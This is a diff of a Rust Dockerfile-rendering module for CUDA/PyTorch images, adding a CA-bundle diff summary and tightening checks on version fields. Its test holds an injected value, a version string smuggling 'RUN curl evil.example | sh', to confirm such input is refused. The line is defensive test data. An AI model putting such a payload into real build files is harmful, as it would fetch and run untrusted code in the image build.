@@ -9,6 +9,8 @@
 //! knowledge, whose versions are digits and dots only; `check_values` checks again right here
 //! before rendering, since a Dockerfile is code.
 
+mod ca_bundle;
+
 use std::collections::{BTreeMap, BTreeSet};
 
 use minijinja::{context, Environment, UndefinedBehavior};
@@ -53,6 +55,20 @@ pub(crate) const MAKE_CUDA_STUB: &str = include_str!("../../templates/make-cuda-
 
 /// The file names of a build context beside the Dockerfile.
 pub(crate) const CA_BUNDLE_FILE: &str = "ca-bundle.crt";
+
+/// How a rendered file differs from `current` for `render --check`: a unified diff, or for a CA
+/// bundle the certificates added and removed (a diff of base64 says nothing to a person).
+pub(crate) fn file_change(label: &str, file: &str, current: &str, wanted: &str) -> String {
+    let header = format!("--- a/{label}\n+++ b/{label}\n");
+    if file == CA_BUNDLE_FILE {
+        return format!("{header}{}", ca_bundle::change_summary(current, wanted));
+    }
+    similar::TextDiff::from_lines(current, wanted)
+        .unified_diff()
+        .context_radius(3)
+        .header(&format!("a/{label}"), &format!("b/{label}"))
+        .to_string()
+}
 pub(crate) const CUDA_STUB_SCRIPT: &str = "make-cuda-stub.sh";
 
 /// The template that renders images of `variant`.
@@ -296,6 +312,8 @@ fn render_one(
         ca_bundle => ca_bundle.map(|_| CA_BUNDLE_FILE),
         extra_labels => extra_labels,
         title => title,
+        // Without the registry: moving to another registry re-renders no runtime image.
+        repository_path => matrix.repository.clone(),
     };
     // The team's step fragment, rendered with the same values (strict: an unknown name fails).
     let steps_text = match &image.extensions.steps {
@@ -388,9 +406,9 @@ pub(crate) fn check_values(image: &ImageSpec) -> Result<(), RenderError> {
     }
     version_like("cuda", &image.cuda)?;
     for (field, value) in [
-        ("base_cuda_toolkit", &image.base_cuda_toolkit),
-        ("cuda_runtime", &image.cuda_runtime),
-        ("cuda_nvcc", &image.cuda_nvcc),
+        ("base_cuda_toolkit", image.base_cuda_toolkit.as_deref()),
+        ("cuda_runtime", image.cuda_runtime.as_deref()),
+        ("cuda_nvcc", image.cuda_nvcc.as_deref()),
     ] {
         if let Some(value) = value {
             version_like(field, value)?;
@@ -944,12 +962,16 @@ mod tests {
     fn unsafe_values_in_hand_made_specs_are_refused() {
         let (mut images, matrix) =
             specs("torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\nvariants: [runtime]\n");
-        images[0].torch = "2.7.0\nRUN curl evil.example | sh".into();
+        // A version field cannot even hold it: the type refuses the text ...
+        let unsafe_text = "2.7.0\nRUN curl evil.example | sh";
+        assert!(crate::model::axes::VersionText::parse(unsafe_text).is_err());
+        // ... and a field still kept as text (the lock's CUDA runtime) is refused at render.
+        images[0].cuda_runtime = Some(unsafe_text.to_string());
         let error = render_all(&images, &matrix, &Templates::embedded(), None)
             .unwrap_err()
             .to_string();
         assert!(
-            error.contains("refusing to render unsafe value for torch"),
+            error.contains("refusing to render unsafe value for cuda_runtime"),
             "{error}"
         );
     }
